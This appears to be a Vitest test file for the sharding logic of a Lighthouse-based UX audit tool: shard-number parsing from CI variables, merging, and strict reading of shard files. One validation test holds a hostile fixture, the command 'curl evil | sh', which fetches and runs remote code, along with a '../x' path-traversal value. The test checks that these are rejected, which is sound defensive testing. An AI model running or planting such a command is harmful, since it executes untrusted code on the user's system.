import { describe, expect, it } from 'vitest';
import {
  inShard,
  mergeShards,
  notMeasuredUnits,
  readShardFile,
  type ShardFile,
  type ShardSet,
  shardOf,
} from '../../../../src/core/audit/shards';
import { attempts } from '../../../patience';
import { audit, measurement, report, result } from './build';

const units = Array.from({ length: 11 }, (_, n) => `page-${n} local mobile`);
const setOf = (unit: string): ShardSet => ({
  unit,
  target: unit.split(' ')[0] as string,
  environment: 'local',
  formFactor: 'mobile',
  today: '2026-11-28',
  measurement: measurement({ target: unit.split(' ')[0] as string }),
  report: report([audit('image-alt')]),
  results: [result()],
  notMeasured: [],
});
const shard = (index: number, of: number, more: Partial<ShardFile> = {}): ShardFile => ({
  format: 'ux-audit/shard',
  version: 1,
  of,
  shards: [index],
  same: { commit: 'a', lighthouse: '13.5.0', settings: 'x' },
  units,
  sets: inShard(units, { index, of }).map(setOf),
  failed: [],
  ...more,
});
const all = (of: number) => Array.from({ length: of }, (_, index) => shard(index + 1, of));

describe('which shard this is', () => {
  it.each([
    ['2/8', {}, { index: 2, of: 8 }],
    ['auto', { CI_NODE_INDEX: '8', CI_NODE_TOTAL: '8' }, { index: 8, of: 8 }],
    ['auto', { CIRCLE_NODE_INDEX: '0', CIRCLE_NODE_TOTAL: '3' }, { index: 1, of: 3 }],
    ['auto', { BUILDKITE_PARALLEL_JOB: '2', BUILDKITE_PARALLEL_JOB_COUNT: '3' }, { index: 3, of: 3 }],
    ['auto', { JOB_COMPLETION_INDEX: '7', UX_AUDIT_SHARDS: '8' }, { index: 8, of: 8 }],
  ])('%s in %o', (text, env, expected) => {
    expect(shardOf(text, env)).toEqual(expected);
  });

  it.each([
    ['0/8', {}],
    ['9/8', {}],
    ['1/0', {}],
    ['1/8x', {}],
    ['1e3/8', {}],
    ['auto', { CI_NODE_INDEX: '9', CI_NODE_TOTAL: '8' }],
    ['auto', { CI_NODE_INDEX: '', CI_NODE_TOTAL: '8' }],
  ])('is not told by %s in %o', (text, env) => {
    expect(() => shardOf(text, env)).toThrow('names no shard');
  });

  it('is an error where nothing says it', () => {
    expect(() => shardOf('auto', { JOB_COMPLETION_INDEX: '1' })).toThrow('does not say which shard');
  });
});

describe('shards', () => {
  it.each([1, 2, 3, 8, 20])('of %i have every page once', (of) => {
    const found = Array.from({ length: of }, (_, index) => inShard(units, { index: index + 1, of })).flat();
    expect([...found].sort()).toEqual([...units].sort());
  });

  it('give the same whatever the order and groups in which they are merged', () => {
    const whole = JSON.stringify(mergeShards(all(5)));
    for (let round = 0; round < attempts(50, 500); round += 1) {
      let open = all(5).sort(() => Math.random() - 0.5);
      while (open.length > 1) {
        const taken = 2 + Math.floor(Math.random() * (open.length - 1));
        open = [mergeShards(open.slice(0, taken)), ...open.slice(taken)].sort(() => Math.random() - 0.5);
      }
      expect(JSON.stringify(mergeShards(open))).toBe(whole);
    }
    expect(mergeShards(all(5)).sets.map(({ unit }) => unit)).toEqual(units);
  });

  it('that are missing leave their pages not measured', () => {
    const merged = mergeShards([shard(1, 3), shard(3, 3)]);
    expect(notMeasuredUnits(merged)).toEqual({ missing: [2], units: inShard(units, { index: 2, of: 3 }) });
  });

  it('that failed on a page leave that page not measured', () => {
    const one = shard(1, 1, { sets: units.slice(1).map(setOf), failed: [{ unit: units[0] as string, what: 'gone' }] });
    expect(notMeasuredUnits(one)).toEqual({ missing: [], units: [units[0]] });
  });

  it.each<[string, Partial<ShardFile>]>([
    ['Shard 1 of 2 is there twice', {}],
    ['one is of 2, another of 3', { of: 3 }],
    ['their commits differ', { same: { commit: 'b', lighthouse: '13.5.0', settings: 'x' } }],
    ['Lighthouse 13.5.0 and 13.6.0', { same: { commit: 'a', lighthouse: '13.6.0', settings: 'x' } }],
    ['their options differ', { same: { commit: 'a', lighthouse: '13.5.0', settings: 'y' } }],
    ['they were to audit different pages', { units: units.slice(1) }],
  ])('are refused: %s', (message, change) => {
    expect(() => mergeShards([shard(1, 2), { ...shard(1, 2), ...change }])).toThrow(message);
  });

  it('names the files of a shard that is there twice', () => {
    const message = 'Shard 1 of 2 is there twice: a/shard-1-of-2.json and b/shard-1-of-2.json.';
    const names = ['a/shard-1-of-2.json', 'c/shard-2-of-2.json', 'b/shard-1-of-2.json'];
    expect(() => mergeShards([shard(1, 2), shard(2, 2), shard(1, 2)], names)).toThrow(message);
  });

  it('from anybody are read strictly', () => {
    const good = JSON.parse(JSON.stringify(shard(1, 2)));
    expect(readShardFile(good)).toEqual(good);
    expect(() => readShardFile({ ...good, sets: [{ ...good.sets[0], target: '../x' }] })).toThrow('at sets.0.target');
    expect(() => readShardFile({ ...good, sets: [{ ...good.sets[0], environment: 'a/b' }] })).toThrow('environment');
    const learn = { kind: 'page', serve: { command: 'curl evil | sh', url: 'http://x/' } };
    expect(() => readShardFile({ ...good, sets: [{ ...good.sets[0], learn }] })).toThrow('at sets.0.learn');
    expect(() => readShardFile({ ...good, sets: [{ ...good.sets[0], unit: 'other local mobile' }] })).toThrow(
      'another page',
    );
    expect(() => readShardFile({ ...good, of: 1e9 })).toThrow('at of');
    expect(() => readShardFile([])).toThrow();
  });

  it('of no page measure nothing, whose Lighthouse is not known', () => {
    const empty = shard(2, 2, { sets: [], same: { commit: 'a', lighthouse: '', settings: 'x' } });
    expect(mergeShards([shard(1, 2), empty]).shards).toEqual([1, 2]);
  });
});
